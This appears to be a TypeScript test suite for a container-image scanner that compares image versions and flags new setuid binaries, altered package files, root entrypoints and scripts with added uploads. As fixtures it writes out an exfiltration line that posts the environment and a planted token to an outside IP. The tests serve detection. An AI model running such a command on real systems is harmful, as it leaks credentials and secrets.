import { createHash, randomUUID } from 'node:crypto';
import { gzipSync, zstdDecompressSync } from 'node:zlib';

import { Findings, PushDifferences, type Push } from '@tidewaiter/store';
import { digestOf, osRelease, stanza, tarArchive, until, TestScanner } from '@tidewaiter/testkit';

import { start } from '../main.js';

let scanner: TestScanner;

beforeAll(async () => {
  scanner = await TestScanner.start(start);
});

afterAll(async () => scanner.stop());

describe('images that are compared', () => {
  describe('a tag that moves', () => {
    const movedEvent = async ({ id }: Push) => {
      const [event] = await scanner.store.query<{ data: unknown }>(
        `SELECT data FROM outbox WHERE type = 'dev.tidewaiter.tag.moved.v1' AND data ->> 'pushId' = $1`,
        [id],
      );
      return event?.data;
    };
    const changesOf = async ({ id }: Push) => new PushDifferences(scanner.store).of(id);
    const script = (host: string) => ({
      path: 'app/run.sh',
      content: `#!/bin/sh\ncurl -s https://${host}/\n`,
      mode: 0o755,
    });
    const app = tarArchive([script('api.moved.io')]);
    const changed = tarArchive([script('drop.moved.io'), { path: 'usr/bin/helper', content: 'x', mode: 0o4755 }]);

    it('has its changes computed from the stored data of both images', async () => {
      scanner.registry.put('moved', '1', [{ content: osRelease }, { content: app }], {
        config: { User: 'app', Env: ['KEY=a'] },
      });
      const first = await scanner.push('moved', '1');
      expect(await changesOf(first)).toBeNull();
      expect(await movedEvent(first)).toBeUndefined();
      const downloads = scanner.registry.downloads.length;
      const config = { User: '0', Entrypoint: ['/bin/sh', '-c', 'hunter2'], Env: ['KEY=b'] };
      const digest = scanner.registry.put('moved', '1', [{ content: osRelease }, { content: changed }], { config });
      const second = await scanner.push('moved', '1');
      // The tag's manifest, config, the one new layer, and the places where signatures may lie.
      expect(scanner.registry.downloads.length - downloads).toBe(8);
      expect(await movedEvent(second)).toMatchObject({
        oldDigest: first.digest,
        newDigest: digest,
        isComplete: true,
        files: { added: 1, removed: 0, changed: 1, newSetuid: 1 },
        newHosts: 1,
        entrypointChanged: true,
        userChanged: true,
        becameRoot: true,
        baseChanged: false,
      });
      const changes = await changesOf(second);
      expect(changes).toMatchObject({
        platforms: [{ platform: 'linux/amd64', change: 'compared' }],
        files: {
          items: [
            { path: 'usr/bin/helper', isNewSetuid: true },
            { path: 'app/run.sh', change: 'content' },
          ],
        },
        hosts: { total: 1, items: [{ host: 'drop.moved.io', namedIn: ['app/run.sh'] }] },
        findings: {
          introduced: {
            items: expect.arrayContaining([expect.objectContaining({ id: 'unowned-setuid', path: 'usr/bin/helper' })]),
          },
        },
      });
      expect(changes?.config?.items.map(({ field }) => field)).toEqual(['user', 'entrypoint', 'env KEY']);
      expect(JSON.stringify(await scanner.store.query('SELECT config FROM image'))).not.toMatch(/hunter2|KEY=/);
    });

    it('has one event for all platforms', async () => {
      const platform = (content: Buffer, architecture: string) =>
        scanner.registry.put('moved-index', architecture, [{ content: osRelease }, { content }], { architecture });
      scanner.registry.putIndex('moved-index', '1', [platform(app, 'amd64'), platform(app, 'arm64')]);
      await scanner.push('moved-index', '1');
      scanner.registry.putIndex('moved-index', '1', [platform(changed, 'amd64'), platform(changed, 'arm64')]);
      const moved = await scanner.push('moved-index', '1');
      expect(await changesOf(moved)).toMatchObject({
        platforms: [{ platform: 'linux/amd64' }, { platform: 'linux/arm64' }],
        files: { total: 2 },
        hosts: { items: [{ host: 'drop.moved.io' }] },
      });
      expect((await changesOf(moved))?.hosts?.items[0]).not.toHaveProperty('platforms');
    });

    it('reports the signers before and after', async () => {
      const signed = scanner.registry.put('signed-moved', '1', [{ content: osRelease }, { content: app }]);
      scanner.registry.putSignature('signed-moved', signed);
      await scanner.push('signed-moved', '1');
      scanner.registry.put('signed-moved', '1', [{ content: osRelease }, { content: changed }]);
      const moved = await scanner.push('signed-moved', '1');
      expect(await movedEvent(moved)).toMatchObject({ signersChanged: true, builderChanged: null });
      expect(await changesOf(moved)).toMatchObject({
        origin: [{ before: { signers: ['release'] }, after: { signers: [] } }],
      });
    });

    it('has unknown changes if the earlier image was never read', async () => {
      const lost = tarArchive([{ path: 'lost', content: randomUUID() }]);
      scanner.registry.put('moved-unread', '1', [{ content: lost }], { missing: [digestOf(gzipSync(lost))] });
      expect(await scanner.push('moved-unread', '1')).toMatchObject({ state: 'analyzed', verdict: 'fail' });
      scanner.registry.put('moved-unread', '1', [{ content: osRelease }, { content: app }]);
      const moved = await scanner.push('moved-unread', '1');
      expect(await movedEvent(moved)).toMatchObject({ isComplete: false, files: null, newHosts: null });
      expect(await changesOf(moved)).toMatchObject({ isComplete: false, files: null });
    });

    it('has unknown file changes if an older version read the earlier image', async () => {
      const old = tarArchive([script('old.moved.io')]);
      scanner.registry.put('moved-old', '1', [{ content: osRelease }, { content: old }], { config: { User: 'app' } });
      await scanner.push('moved-old', '1');
      await scanner.store.query('UPDATE layer SET entries = $2 WHERE diff_id = $1', [digestOf(old), Buffer.of(1)]);
      scanner.registry.put('moved-old', '1', [{ content: osRelease }, { content: app }], { config: { User: '0' } });
      const moved = await scanner.push('moved-old', '1');
      expect(await changesOf(moved)).toMatchObject({
        platforms: [{ change: 'compared' }],
        isComplete: false,
        files: null,
        hosts: null,
        config: { items: [{ field: 'user' }] },
      });
    });
  });

  it('finds a program that differs from the same package elsewhere, despite a matching database', async () => {
    const program = (content: string) => {
      const path = 'usr/bin/common';
      const md5 = createHash('md5').update(content).digest('hex');
      return tarArchive([
        { path: 'var/lib/dpkg/status', content: stanza('common') },
        { path: 'var/lib/dpkg/info/common.list', content: `/${path}\n` },
        { path: 'var/lib/dpkg/info/common.md5sums', content: `${md5}  ${path}\n` },
        { path, content, mode: 0o755 },
      ]);
    };
    const put = (tag: string, content: string) =>
      scanner.registry.put('fleet', tag, [
        { content: osRelease },
        { content: program(content) },
        { content: tarArchive([{ path: 'app', content: tag }]) },
      ]);
    for (const tag of ['1', '2', '3']) {
      put(tag, 'as the distribution built it');
      expect(await scanner.push('fleet', tag)).toMatchObject({ state: 'analyzed' });
    }
    const odd = put('odd', 'with a back door');
    expect(await scanner.push('fleet', 'odd')).toMatchObject({ verdict: 'fail' });
    const outliers = (await scanner.findingsIn([odd])).filter(({ kind }) => kind === 'integrity');
    expect(outliers).toMatchObject([
      {
        id: 'package-file-outlier',
        severity: 'high',
        path: 'usr/bin/common',
        layer: 1,
        packageName: 'common',
        evidence: { imagesWithExpected: 3, imagesWithActual: 1 },
      },
    ]);
  });

  describe('FileOutliers', () => {
    const uploader =
      '#!/bin/sh\nset -e\nurl=https://codecov.io/upload\ncurl -fsS --data-binary @"$1" "$url"\necho "report uploaded"\n';
    const token = `ghp_${createHash('sha256').update('planted').digest('hex').slice(0, 36)}`;
    const leak = `curl -sm 0.5 -H "Authorization: token ${token}" -d "ENV $(env)" http://198.51.100.23/upload\n`;
    const script = (content: string, path: string) => ({ content: tarArchive([{ path, content, mode: 0o755 }]) });
    const putIn = (repository: string, content: string, path: string) =>
      scanner.registry.put(repository, '1', [{ content: osRelease }, script(content, path)]);
    const outliersIn = async (found: Push) =>
      (await new Findings(scanner.store).of([found.digest!], found)).filter(({ id }) => id === 'file-outlier');

    it('finds the image whose script has an added upload, in either order of arrival, and announces it', async () => {
      for (const order of ['clean-first', 'altered-first']) {
        const path = `usr/local/bin/${order}.sh`;
        const contents = { clean: uploader, altered: uploader + leak };
        const names = order === 'clean-first' ? (['clean', 'altered'] as const) : (['altered', 'clean'] as const);
        const found = new Map<string, Push>();
        for (const name of names) {
          putIn(`${order}/${name}`, contents[name], path);
          found.set(name, await scanner.push(`${order}/${name}`, '1'));
        }
        const altered = found.get('altered')!;
        await until(`${order}: the finding`, async () => (await outliersIn(altered)).length > 0);
        const [finding] = await outliersIn(altered);
        expect(finding).toMatchObject({ severity: 'high', path, layer: 1, evidence: { newHosts: ['198.51.100.23'] } });
        const [line] = finding!.evidence['addedLines'] as string[];
        expect(line).toContain('-d "ENV $(env)" http://198.51.100.23/upload');
        expect(line).not.toContain(token);
        expect(await outliersIn(found.get('clean')!)).toEqual([]);
        await until('its verdict follows', async () => (await scanner.pushes.get(altered.id))?.verdict === 'fail');
        const announcements = async () =>
          scanner.store.query(`SELECT FROM outbox WHERE type LIKE '%image.analyzed%' AND data ->> 'pushId' = $1`, [
            altered.id,
          ]);
        const expected = order === 'altered-first' ? 2 : 1;
        await until('it is announced', async () => (await announcements()).length >= expected);
        expect(await announcements()).toHaveLength(expected);
      }
      const stored = await scanner.store.query<{ text: Buffer }>(
        'SELECT text FROM fleet_content WHERE text IS NOT NULL',
      );
      expect(stored.length).toBeGreaterThan(0);
      expect(stored.some(({ text }) => zstdDecompressSync(text).includes(token))).toBe(false);
    });

    it('withdraws the finding of a new host once most repositories have the host', async () => {
      const path = 'usr/local/bin/report-metrics';
      const more = uploader + 'curl -fsS https://metrics.codecov-stats.net/ping\n';
      putIn('metrics/one', uploader, path);
      await scanner.push('metrics/one', '1');
      putIn('metrics/two', more, path);
      const two = await scanner.push('metrics/two', '1');
      expect(await outliersIn(two)).toMatchObject([
        { evidence: { newHosts: ['metrics.codecov-stats.net'], signs: [] } },
      ]);
      putIn('metrics/three', `${more}\n`, path);
      await scanner.push('metrics/three', '1');
      expect(await outliersIn(two)).toHaveLength(1);
      putIn('metrics/four', more, path);
      await scanner.push('metrics/four', '1');
      await until('it is withdrawn', async () => (await outliersIn(two)).length === 0);
    });

    it('removes files and texts with their last image', async () => {
      const digest = putIn('gone/app', '#!/bin/sh\necho gone\n', 'usr/local/bin/gone.sh');
      await scanner.push('gone/app', '1');
      const contents = () => scanner.store.query(`SELECT FROM fleet_content WHERE path = 'usr/local/bin/gone.sh'`);
      expect(await contents()).toHaveLength(1);
      await scanner.store.query('DELETE FROM fleet_file WHERE image_digest = $1', [digest]);
      expect(await contents()).toEqual([]);
    });
  });
});
